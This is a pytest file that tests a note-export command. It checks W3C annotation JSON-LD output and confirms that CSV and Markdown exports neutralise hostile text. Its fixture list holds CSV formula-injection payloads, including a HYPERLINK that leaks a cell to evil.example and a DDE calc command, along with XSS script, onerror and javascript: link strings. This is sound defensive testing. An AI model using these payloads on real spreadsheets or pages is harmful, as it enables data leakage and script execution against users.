"""`pagekeep export-notes`: W3C Web Annotation JSON-LD that passes the W3C suite's MUST
schemas, and Markdown and CSV that stay inert whatever the captured or typed text holds."""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

import archive_factory as factory
import w3c_annotation
from annotations import export_notes, highlights, tags
from capture.cli import app

pytestmark = pytest.mark.timeout(60)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script> <img src=x onerror=alert(2)>",
    "[click](javascript:alert(3)) ![img](http://evil.example/x.png) <http://evil.example/auto>",
    "http://evil.example/bare www.evil.example mail@evil.example",
    "# Heading\n- list item\n> quote\n```\ncode\n``` *em* __strong__ | a | b |",
]
PARAS = ["Ordinary opening paragraph about the harbour.",
         "Hostile passage: " + " ".join(h.replace("\n", " ") for h in HOSTILE),
         "Closing words, with the harbour again."]


@pytest.fixture
def db(tmp_path):
    archive = factory.build(tmp_path / "x.db", 1)
    aid = factory.add_article(archive, 3, paragraphs=PARAS, title=HOSTILE[5] + " " + HOSTILE[0])
    factory.add_text_boxes(archive, aid, PARAS)
    highlights.add_highlight(archive, aid, quote="harbour", occurrence=2, note=HOSTILE[0], color="green",
                             author=HOSTILE[3])
    highlights.add_highlight(archive, aid, start=len(PARAS[0]) + 2, end=len(PARAS[0]) + 2 + len(PARAS[1]),
                             note="\n".join(HOSTILE))
    tags.add_note(archive, aid, HOSTILE[6], quote=HOSTILE[5])
    highlights.add_region(archive, aid, 10, 20, 300, 40, note=HOSTILE[1], color="purple")
    tags.add_note(archive, 1, "a note without a quote")
    archive.aid = aid
    yield archive
    archive.conn.close()


def jsonld(db, **kw):
    return json.loads(export_notes.export(db, "jsonld", **kw))


def test_the_collection_passes_the_w3c_collection_musts(db):
    assert w3c_annotation.failures(jsonld(db), w3c_annotation.COLLECTION_MUSTS) == []


def test_every_annotation_passes_the_w3c_annotation_musts(db):
    items = jsonld(db)["first"]["items"]
    assert {i["motivation"] for i in items} == {"commenting"} and len(items) == 5
    for item in items:
        assert w3c_annotation.failures(item) == [], item["id"]


def test_the_schema_check_does_fail_a_broken_annotation(db):
    item = copy.deepcopy(next(i for i in jsonld(db)["first"]["items"] if "selector" in i["target"][0]))
    item["target"][0]["selector"][0].pop("exact")
    item["created"] = "last Tuesday"
    failed = w3c_annotation.failures(item)
    assert any("textQuoteSelector" in f for f in failed) and any("Created" in f for f in failed)


def test_a_highlight_targets_the_text_and_each_line_on_the_page_screenshot(db):
    item = jsonld(db, article_id=db.aid)["first"]["items"][0]
    text_target, *shot_targets = item["target"]
    quote, position = text_target["selector"]
    art = db.execute("select url, captured_at, text from articles where id = ?", [db.aid]).fetchone()
    assert text_target["source"] == art[0] and text_target["state"]["sourceDate"] == art[1]
    assert art[2][position["start"]:position["end"]] == quote["exact"] == "harbour"
    assert quote["prefix"].endswith("with the ") and quote["suffix"] == " again."
    assert len(shot_targets) == 1
    assert shot_targets[0]["source"]["id"].endswith(f"/-/pagekeep/pagekeep/shots/{db.aid}/page")
    assert shot_targets[0]["selector"]["value"].startswith("xywh=pixel:")


def test_csv_cells_that_would_run_as_formulas_are_escaped(db):
    out = export_notes.export(db, "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [v for r in rows for k, v in r.items() if k not in ("id", "article_id", "pos_start", "pos_end")]
    assert cells, "the export has text cells"
    for cell in cells:
        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
        assert not cell.startswith(("\t", "\r"))
    notes = {r["note"] for r in rows}
    assert "'" + HOSTILE[0] in notes  # kept whole, just made inert
    assert "'" + HOSTILE[1] in notes


def render_markdown(text: str) -> str:
    return MarkdownIt("gfm-like", {"linkify": True, "html": True}).render(text)


def test_markdown_of_hostile_text_renders_as_text_only(db):
    html = render_markdown(export_notes.export(db, "markdown"))
    for active in ("<a ", "<img", "<script", "<table", "<code", "<pre", "<em", "<strong", "<li", "<h3", "<h4"):
        assert active not in html, active
    assert html.count("<h1>") == 1 and html.count("<h2>") == 2
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[click](javascript:alert(3))" in html and "http://evil.example/bare" in html


def test_the_markdown_check_does_catch_unescaped_text():
    html = render_markdown("\n\n".join(HOSTILE))
    assert "<a " in html and "<script" in html and "<img" in html


def test_cli_export_notes_writes_each_format_to_stdout(db, tmp_path):
    runner = CliRunner()
    for fmt, check in (("jsonld", lambda s: json.loads(s)["type"] == "AnnotationCollection"),
                       ("markdown", lambda s: s.startswith("# pagekeep annotations")),
                       ("csv", lambda s: s.startswith(",".join(export_notes.CSV_COLUMNS)))):
        result = runner.invoke(app, ["export-notes", "--format", fmt, "--db", str(tmp_path / "x.db")])
        assert result.exit_code == 0 and check(result.stdout), fmt
    one = runner.invoke(app, ["export-notes", "--article", "1", "--db", str(tmp_path / "x.db")])
    assert json.loads(one.stdout)["total"] == 1
